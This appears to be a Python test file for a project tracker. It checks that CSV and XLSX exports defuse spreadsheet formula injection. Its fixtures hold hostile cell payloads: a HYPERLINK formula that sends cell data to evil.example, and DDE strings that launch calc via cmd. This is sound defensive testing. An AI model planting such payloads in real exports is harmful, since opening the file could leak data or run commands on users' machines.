"""CSV cells cannot run as formulas: text starting with = + - @ (or a tab or CR) is written
with a leading ' in every CSV the tracker writes, while numbers, negative ones too, stay
numbers. XLSX needs no prefix: its strings are typed strings (data_type 's')."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
import shapely
from openpyxl import load_workbook
from shapely.geometry import LineString

from tests.factories import make_project
from tracker.fields import FIELDS
from tracker.formats.tables import FORMULA_STARTS, records_to_csv, to_csv, to_xlsx
from tracker.services.base import transaction

HOSTILE_TEXT = {
    "name_vi": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")",
    "name_en": "+cmd|' /C calc'!A0",
    "governing_body": "-2+3+cmd|' /C calc'!A0",
    "project_owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "geometry_note": "\t=1+1",  # multi-line text may start with a tab
}
FORMULA_ONLY_IN_OTHER_WRITERS = {"present_units": "\r=1+1"}  # stored text never holds CR
HARMLESS_TEXT = {"code": "road-1", "kind": "road", "status": "proposed",
                 "provinces": "a 'quoted' note = fine in the middle"}


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_every_formula_start_is_prefixed_and_numbers_stay_numbers():
    hostile = {**HOSTILE_TEXT, **FORMULA_ONLY_IN_OTHER_WRITERS}
    record = {**hostile, **HARMLESS_TEXT, "progress_pct": -12.5,
              "total_investment_vnd": -3, "disbursed_vnd": 0, "length_km": None}
    [row] = read_back(records_to_csv([record], list(record)))
    for name, value in hostile.items():
        assert row[name] == "'" + value, name
    for name, value in HARMLESS_TEXT.items():
        assert row[name] == value
    assert row["progress_pct"] == "-12.5" and row["total_investment_vnd"] == "-3"
    assert row["disbursed_vnd"] == "0" and row["length_km"] == ""
    assert {v[0] for v in hostile.values()} == set(FORMULA_STARTS)


@pytest.fixture
def hostile_app(app):
    """A real project whose text fields all start like formulas (allowed: it is only text)."""
    with app.extensions["tracker"].sessions() as s, transaction(s):
        s.add(make_project("road-1", total_investment_vnd=1000, progress_pct=40,
                           **HOSTILE_TEXT))
    return app


def assert_defused(rows: list[dict[str, str]]) -> None:
    [row] = [r for r in rows if r["code"] == "road-1"]
    for name, value in HOSTILE_TEXT.items():
        assert row[name] == "'" + value, name
    assert row["total_investment_vnd"] == "1000" and row["progress_pct"] == "40.0"
    assert row.get("WKT", "LINESTRING").startswith("LINESTRING")  # the API's CSV has WKT


@pytest.mark.parametrize("url", ["/api/v1/projects.csv", "/projects.csv"])
def test_the_app_csvs_are_defused(hostile_app, url):
    r = hostile_app.test_client().get(url)
    assert r.status_code == 200
    assert_defused(read_back(r.data.decode("utf-8")))


def test_the_shapefile_zips_csv_is_defused(hostile_app):
    r = hostile_app.test_client().get("/api/v1/projects.shp.zip")
    with zipfile.ZipFile(io.BytesIO(r.data)) as zf:
        name = next(n for n in zf.namelist() if n.endswith(".csv"))
        assert_defused(read_back(zf.read(name).decode("utf-8")))


def test_the_cli_csvs_are_defused(hostile_app, tmp_path):
    runner = hostile_app.test_cli_runner()
    listed = runner.invoke(args=["list", "--format", "csv"])
    assert listed.exit_code == 0
    [row] = read_back(listed.output)
    assert row["name"] == "'" + HOSTILE_TEXT["name_vi"] and row["investment"] == "1000"
    out = tmp_path / "x.csv"
    assert runner.invoke(args=["export", "--format", "csv", "-o", str(out)]).exit_code == 0
    assert_defused(read_back(out.read_text(encoding="utf-8")))


def test_xlsx_keeps_formula_text_as_typed_strings():
    hostile = {**HOSTILE_TEXT, **FORMULA_ONLY_IN_OTHER_WRITERS}
    record = {f.name: None for f in FIELDS} | {"code": "road-1", **hostile,
                                                "progress_pct": -12.5,
                                                "total_investment_vnd": -3}
    data = to_xlsx([record], [shapely.to_wkb(LineString([(105, 9), (106, 10)]))])
    ws = load_workbook(io.BytesIO(data))["du_an"]
    header = [c.value for c in ws[1]]
    row = dict(zip(header, ws[2], strict=True))
    for name, value in hostile.items():
        assert row[name].data_type == "s", name  # a string cell: never evaluated
        assert row[name].value == value, name  # no prefix needed
    assert row["progress_pct"].data_type == "n" and row["progress_pct"].value == -12.5
    assert row["total_investment_vnd"].data_type == "n"


def test_to_csv_prefixes_text_but_not_wkt():
    record = {f.name: None for f in FIELDS} | {"code": "road-1", "name_vi": "-x"}
    [row] = read_back(to_csv([record], [shapely.to_wkb(LineString([(105, 9), (106, 10)]))])
                      .decode("utf-8"))
    assert row["name_vi"] == "'-x" and row["WKT"] == "LINESTRING (105 9, 106 10)"
